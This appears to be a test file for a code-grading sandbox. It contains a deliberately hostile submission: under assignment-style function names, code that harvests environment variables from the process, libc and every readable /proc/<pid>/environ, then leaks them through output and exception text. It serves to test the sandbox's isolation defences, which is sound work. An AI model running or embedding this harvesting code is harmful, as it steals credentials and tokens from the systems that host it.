"""Attack: read the grader's environment (where an instructor keeps tokens, for example) and print it all:
os.environ, libc's own ``environ``, /proc/self/environ, the parent's, pid 1's, and every /proc/<pid>/environ.

Defence: the zygote starts with a clean environment, before any secret exists, and its children inherit only
that; /proc is out of reach (Landlock, another uid). The canary variable the test sets in the grader's
environment must appear nowhere.
"""

import ctypes
import json
import os


def _harvest():
    found = {"os.environ": dict(os.environ)}
    try:
        libc = ctypes.CDLL(None)
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        entries, i = [], 0
        while environ[i] is not None and i < 500:
            entries.append(environ[i].decode("utf-8", "replace"))
            i += 1
        found["libc environ"] = entries
    except Exception as exc:
        found["libc environ"] = f"{type(exc).__name__}: {exc}"
    readable = {}
    for pid in ["self", str(os.getppid()), "1"] + [str(p) for p in range(2, 4096)]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                readable[pid] = fh.read(4000).decode("utf-8", "replace")
        except OSError as exc:
            if pid in ("self", "1") or pid == str(os.getppid()):
                readable[pid] = "denied: " + type(exc).__name__
    found["proc"] = readable
    return found


def layer_sizes(X, Y):
    text = json.dumps(_harvest())
    print("REPORT " + text)
    raise RuntimeError("REPORT " + text[:1900])


def compute_cost(A2, Y):
    return json.dumps(_harvest())[:550]
